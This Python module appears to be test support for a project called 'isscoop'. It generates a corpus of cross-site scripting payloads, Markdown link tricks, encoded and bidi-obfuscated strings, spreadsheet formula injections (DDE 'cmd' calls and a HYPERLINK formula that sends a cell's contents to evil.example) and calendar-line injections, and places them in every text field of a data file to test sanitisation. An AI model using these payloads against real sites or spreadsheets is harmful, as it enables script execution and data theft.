"""A corpus of hostile strings, and a data file that puts each one into every text field isscoop has.

Every payload that could run sets the same three markers if it does:
``top.document.title`` becomes ``PWN<n>``, the global ``PWN<n>`` is set
and ``console.log("PWN<n>")`` is called, where ``<n>`` is the payload's
number.  The tests read those markers back from the pages.
"""

from __future__ import annotations

import html.parser
import json
from collections.abc import Callable
from typing import Any, Final

import markdown
import markdown_it
import mistune

MARK: Final = "PWN"


def js(n: int) -> str:
    """The code a payload runs: it sets every marker for payload ``n`` (no double quotes, no spaces)."""
    return f"top.document.title='{MARK}{n}';top.{MARK}{n}=1;top.console.log('{MARK}{n}')"


#: Each template's ``{js}`` is replaced by :func:`js` of its number.
TEMPLATES: Final = (
    # HTML that runs by itself
    "<script>{js}</script>",
    '<img src=x onerror="{js}">',
    "<img src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    '<details open ontoggle="{js}">x</details>',
    '<iframe src="javascript:{js}"></iframe>',
    '<iframe srcdoc="<script>{js}</script>"></iframe>',
    '<object data="javascript:{js}"></object>',
    '<body onload="{js}">',
    '<input autofocus onfocus="{js}">',
    '<video><source onerror="{js}"></video>',
    '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    '<base href="javascript:{js}//">',
    "<img src=x onerror=alert(1)>",
    # links that run when followed
    '<a href="javascript:{js}">click</a>',
    '<a href="JaVaScRiPt:{js}">click</a>',
    '<a href="&#106;avascript:{js}">click</a>',
    '<a href="java&#x09;script:{js}">click</a>',
    '<a href="data:text/html,<script>{js}</script>">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<form><button formaction="javascript:{js}">go</button></form>',
    '<math><mi xlink:href="javascript:{js}">x</mi></math>',
    # Markdown link, image and autolink syntax
    "[click](javascript:{js})",
    "[click](JAVASCRIPT:{js} 'title')",
    "[click](<javascript:{js}>)",
    "![image](javascript:{js})",
    '![image](x "a" onerror="{js}")',
    "[click][ref] [ref]: javascript:{js}",
    "<javascript:{js}>",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "**bold <img src=x onerror={js}>** _em_ `<script>{js}</script>`",
    "x\n\n<script>{js}</script>\n\ny",
    "x\r\n[^1]: [click](javascript:{js})",
    "<!-- --><script>{js}</script>",
    "</p></li></ul><script>{js}</script>",
    # breaking out of attributes, elements and script data
    '" onmouseover="{js}" x="',
    "' onfocus='{js}' autofocus x='",
    "</script><script>{js}</script>",
    "</textarea><script>{js}</script>",
    # entities that a second decoding would bring to life
    "&lt;img src=x onerror={js}&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "&amp;lt;script&amp;gt;{js}&amp;lt;/script&amp;gt;",
    # Unicode bidi controls and other invisible characters
    "\u202e<img src=x onerror={js}>\u202c gnp.exe",
    "\u2066\u2067<a href='javascript:{js}'>\u2069\u2069\u200f",
    "\x02wzxhzdk:0\x03 \x00 \x1b[31mred\x1b[0m",
    # spreadsheet formulas and calendar lines
    '=HYPERLINK("https://evil.example/?x="&A1,"{js}")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "x\r\nURL:javascript:{js}\r\nATTACH:data:text/html,x\r\nEND:VEVENT",
    "x\nDESCRIPTION:injected;x,y\\n",
)

PAYLOADS: Final = tuple(t.replace("{js}", js(n)) for n, t in enumerate(TEMPLATES))

#: Link targets that the loader accepts (absolute http/https with a host) but that try to break out anyway.
URLS: Final = (
    "https://example.org/a?b=1&c=2",
    "https://example.org/'onmouseover='top.PWN=1'x='",
    "https://example.org/x)(javascript:alert(1)",
    "https://example.org/?q=&lt;script&gt;",
    "https://example.org/#'%3E%3Cimg%20src=x%20onerror=1%3E",
    "https://example.org/a_(b)*c*[d]",
    "https://пример.рф/путь?q={{x}}|y^",
)


def _python_markdown(text: str) -> str:
    return markdown.markdown(text)


def _markdown_it(text: str) -> str:
    return str(markdown_it.MarkdownIt().render(text))


def _mistune(text: str) -> str:
    return str(mistune.html(text))


#: Each Markdown renderer, at its defaults.
RENDERERS: Final[dict[str, Callable[[str], str]]] = {
    "python-markdown": _python_markdown,
    "markdown-it-py": _markdown_it,
    "mistune": _mistune,
}


class Parsed(html.parser.HTMLParser):
    """The tags (with their attributes) and the text of an HTML fragment."""

    def __init__(self, fragment: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(fragment)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def _doc_for(n: int, text: str) -> dict[str, list[dict[str, Any]]]:
    """Records of every kind, with ``text`` in every text field."""
    p = f"p{n}"
    src, src2 = f"{p}-src", f"{p}-src2"
    url = URLS[n % len(URLS)]
    dated = {"name": text, "aliases": [text], "note": text, "period": "1958/1960", "sources": [src]}
    claim = {"field": "location", "value": {"place": text, "country": "US"}, "rank": "deprecated"}
    claim |= {"reason": text, "note": text, "sources": [src2], "stated_by": f"{p}-o", "stated_on": "2025-08"}
    return {
        "sources": [
            {"id": src, "url": url, "publisher": text, "title": text, "note": text, "published": "2025-07"},
            {"id": src2, "url": URLS[(n + 1) % len(URLS)], "publisher": text},
        ],
        "agencies": [
            {
                "id": f"{p}-a",
                "name": text,
                "acronym": text,
                "kind": "space_agency",
                "country": "US",
                "aliases": [text],
                "founded": "1958-07-29",
                "names": [dated],
                "sources": [src],
                "note": text,
            },
            {"id": f"{p}-b", "name": text, "kind": "state_corporation", "founded": "1992", "sources": [src2]},
        ],
        "officials": [
            {
                "id": f"{p}-o",
                "name": text,
                "aliases": [text],
                "tenures": [
                    {
                        "agency": f"{p}-a",
                        "post": text,
                        "period": "2019-05/2021-01",
                        "note": text,
                        "sources": [src],
                        "titles": [{"name": text, "period": "2019/2020"}],
                    }
                ],
                "sources": [src],
                "note": text,
            }
        ],
        "programs": [
            {
                "id": f"{p}-prog",
                "name": text,
                "kind": "space_station",
                "aliases": [text],
                "lead": f"{p}-a",
                "period": "1998/..",
                "participants": [{"agency": f"{p}-a", "role": text, "note": text, "sources": [src]}],
                "crew": [{"person": f"{p}-o", "agency": f"{p}-a", "role": text, "note": text}],
                "milestones": [{"date": "2000-11-02", "what": text, "note": text, "sources": [src]}],
                "sources": [src],
                "note": text,
            }
        ],
        "meetings": [
            {
                "id": f"{p}-m",
                "title": text,
                "kind": "heads_of_agency",
                "date": "2025-07",
                "end": "2025-08-01~",
                "location": {"place": text, "country": "US"},
                "participants": [f"{p}-o"],
                "agencies": [f"{p}-a", f"{p}-b"],
                "programs": [f"{p}-prog"],
                "topics": [text],
                "outcomes": [text],
                "since_last_heads_meeting": text,
                "claims": [claim],
                "sources": [src, src2],
                "note": text,
            }
        ],
        "agreements": [
            {
                "id": f"{p}-ag",
                "title": text,
                "kind": "memorandum_of_understanding",
                "aliases": [text],
                "parties": [f"{p}-a", f"{p}-b"],
                "signatories": [f"{p}-o"],
                "programs": [f"{p}-prog"],
                "signed": "2022-07-14",
                "history": [
                    {"status": "signed", "date": "2022-07-14", "note": text, "sources": [src]},
                    {"status": "in_force", "date": "2022-09", "party": f"{p}-b", "note": text, "sources": [src2]},
                ],
                "sources": [src],
                "note": text,
            }
        ],
    }


def hostile_document(payloads: tuple[str, ...] = PAYLOADS) -> dict[str, Any]:
    """One isscoop data file (format version 1) with every payload in every text field of its own records."""
    doc: dict[str, Any] = {"format_version": 1, "description": "hostile strings in every text field"}
    for n, text in enumerate(payloads):
        for kind, records in _doc_for(n, text).items():
            doc.setdefault(kind, []).extend(records)
    return doc


def text_values(doc: object, skip: frozenset[str] = frozenset()) -> list[str]:
    """Every string in a JSON document, keys aside."""
    if isinstance(doc, str):
        return [doc]
    if isinstance(doc, dict):
        return [s for k, v in doc.items() if k not in skip for s in text_values(v, skip)]
    if isinstance(doc, list):
        return [s for v in doc for s in text_values(v, skip)]
    return []


if __name__ == "__main__":  # pragma: no cover - writes the file, for a look by hand
    print(json.dumps(hostile_document(), indent=2, ensure_ascii=False))
